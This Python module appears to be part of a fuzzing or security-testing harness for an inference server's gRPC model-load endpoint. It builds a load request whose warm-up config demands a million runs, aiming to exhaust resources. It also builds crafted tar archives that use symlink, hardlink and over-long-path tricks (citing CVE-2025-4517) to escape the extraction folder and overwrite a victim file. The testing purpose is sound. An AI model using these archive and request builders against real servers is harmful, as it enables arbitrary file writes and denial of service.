"""Loads of models whose configuration or files come with the request: dear ones, and such as leave their folder."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Mapping, Sequence
from functools import cached_property
from itertools import count
from pathlib import Path
from typing import ClassVar, Final

from fuzz.attacks.attack import Attack
from fuzz.attacks.peer import Peer
from fuzz.attacks.wire import field, framed, greeting, request_block, unary

__all__ = ["VICTIM", "HostileEnvironments", "WarmupCounts"]

_BLOCK: Final = request_block("/inference.GRPCInferenceService/RepositoryModelLoad")
_FILE: Final = tarfile.REGTYPE
_FOLDER: Final = tarfile.DIRTYPE
_LINK: Final = tarfile.SYMTYPE
_HARD: Final = tarfile.LNKTYPE
#: What no archive may make.
VICTIM: Final = "toutates-victim"


def _load(model: str, config: Mapping[str, object], files: Mapping[str, bytes] | None = None) -> bytes:
    """A request to load a model: parameter "config" is a string, files are bytes."""
    parameters = field(3, field(1, b"config") + field(2, field(3, json.dumps(config).encode())))
    for name, content in (files or {}).items():
        parameters += field(3, field(1, f"file:{name}".encode()) + field(2, field(4, content)))
    return framed(field(2, model.encode()) + parameters)


class _Loads(Attack):
    """One load after the other, of a server whose models are loaded by request.

    Attributes:
        bodies: of the requests, in turns.
    """

    connections: ClassVar = 2

    @cached_property
    def bodies(self) -> Sequence[bytes]:
        """The length-prefixed messages."""
        raise NotImplementedError

    def flags(self, folder: Path) -> Sequence[str]:
        """See ``Attack``."""
        return ("--model-control-mode", "explicit", "--load-models", "victim")

    def prepare(self) -> None:
        """See ``Attack``."""
        assert self.bodies

    async def strike(self, peer: Peer) -> None:
        """See ``Attack``."""
        await peer.send(greeting())
        for number in count():
            await peer.send(unary(2 * number + 1, _BLOCK, self.bodies[number % len(self.bodies)]), 1)
            while peer.answered <= number:
                await peer.wait_answer()


class WarmupCounts(_Loads):
    """A small override that wants a million runs."""

    name = "warm-up-counts"
    summary = "loads of a model with a warm-up sample of 8 x 250,000 elements and a `count` of 1,000,000"
    limit = "1,000 runs of a version, none repeated after 10 s; loads take `--model-load-thread-count` threads"
    stops = ("grpc-status 0",)

    @cached_property
    def bodies(self) -> Sequence[bytes]:
        """See ``_Loads``."""
        # Each another one than the one before, or nothing would be loaded anew.
        return [self._body(length) for length in range(250_000, 250_100)]

    def _body(self, length: int) -> bytes:
        tensor = {"data_type": "TYPE_FP32", "dims": [length], "zero_data": True}
        sample = {"name": "dear", "batch_size": 8, "count": 1_000_000, "inputs": {"INPUT": tensor}}
        config = {
            "backend": "onnxruntime",
            "max_batch_size": 8,
            "input": [{"name": "INPUT", "data_type": "TYPE_FP32", "dims": [-1]}],
            "output": [{"name": "OUTPUT", "data_type": "TYPE_FP32", "dims": [-1]}],
            "model_warmup": [sample],
        }
        return _load("shapes", config)


class HostileEnvironments(_Loads):
    """Archives of an environment that want to write elsewhere, or are broken."""

    name = "hostile-environments"
    cve = "CVE-2025-4517"
    summary = "loads of a Python model whose EXECUTION_ENV_PATH is an archive with links out of it, a device, or zeros"
    limit = "each entry is made in its real parent, by descriptor, through no link; a refused archive leaves nothing"
    stops = ("grpc-status 3", "grpc-status 13", "grpc-status 14")

    @cached_property
    def bodies(self) -> Sequence[bytes]:
        """See ``_Loads``."""
        config = {
            "backend": "python",
            "input": [{"name": "INPUT", "data_type": "TYPE_FP32", "dims": [1]}],
            "output": [{"name": "OUTPUT", "data_type": "TYPE_FP32", "dims": [1]}],
            "parameters": {"EXECUTION_ENV_PATH": {"string_value": "$$TRITON_MODEL_DIRECTORY/env.tar.gz"}},
        }
        hostile: list[list[tuple[str, bytes, str]]] = [
            _links_longer_than_paths(),
            [("out", _LINK, "../.."), (f"out/{VICTIM}", _FILE, "evil")],
            [("a", _LINK, f"../../{VICTIM}"), ("a", _FILE, "evil")],
            [(f"../../{VICTIM}", _FILE, "evil")],
            [("a", tarfile.CHRTYPE, "")],
            [("zeros", _FILE, "0" * 50_000_000)],
        ]
        return [_load("stranger", config, {"1/model.py": b"", "env.tar.gz": _archive(entries)}) for entries in hostile]


def _archive(entries: Sequence[tuple[str, bytes, str]]) -> bytes:
    """A tar of these: name, kind, and what a file has or where a link leads."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for name, kind, text in entries:
            member = tarfile.TarInfo(name)
            member.type = kind
            if kind == _FILE:
                member.size = len(text)
            else:
                member.linkname = text
            archive.addfile(member, io.BytesIO(text.encode()) if kind == _FILE else None)
    return made.getvalue()


def _links_longer_than_paths() -> list[tuple[str, bytes, str]]:
    """Links whose path is longer than what the system takes, so that libraries do not see where they lead."""
    entries: list[tuple[str, bytes, str]] = []
    path, component = "", "d" * 247
    steps = "abcdefghijklmno"
    for step in steps:
        entries += [(path + component, _FOLDER, ""), (path + step, _LINK, component)]
        path += component + "/"
    way = "/".join(steps) + "/" + "l" * 254
    entries += [(way, _LINK, "../" * len(steps)), ("escape", _LINK, way + "/../..")]
    return [*entries, ("flag", _HARD, f"escape/{VICTIM}"), ("flag", _FILE, "evil")]
